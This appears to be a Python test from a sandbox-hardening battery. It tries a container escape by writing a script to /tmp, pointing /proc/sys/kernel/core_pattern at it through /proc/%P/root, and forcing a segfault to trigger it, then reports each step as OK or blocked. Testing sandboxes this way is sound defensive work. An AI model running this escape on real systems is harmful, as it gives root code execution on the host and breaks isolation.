import os
import subprocess
import sys

SCRIPT = "/tmp/evorag-hostile-core.sh"


def attack():
    try:
        with open(SCRIPT, "w") as handle:
            handle.write("#!/bin/sh\necho pwned > /tmp/evorag-hostile-pwned-core\n")
        os.chmod(SCRIPT, 0o755)
    except OSError as exc:
        report("write-script", None, exc)
    try:
        with open("/proc/sys/kernel/core_pattern", "w") as handle:
            handle.write(f"|/proc/%P/root{SCRIPT}")
        report("core_pattern", True)
    except OSError as exc:
        report("core_pattern", False, exc)
        return False
    subprocess.run([sys.executable, "-c", "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"], check=False)
    return True


def test_core_pattern_escape():
    assert attack()


def report(step, ok, detail=""):
    """One line per attack step, read by tests/test_hostile_battery.py in its sandbox mode: OK means the step
    worked (a breach of the sandbox's promises), blocked that it failed, info is context."""
    word = "info" if ok is None else "OK" if ok else "blocked"
    print(f"EVORAG-HOSTILE {step}: {word} {str(detail)[:240]}", flush=True)
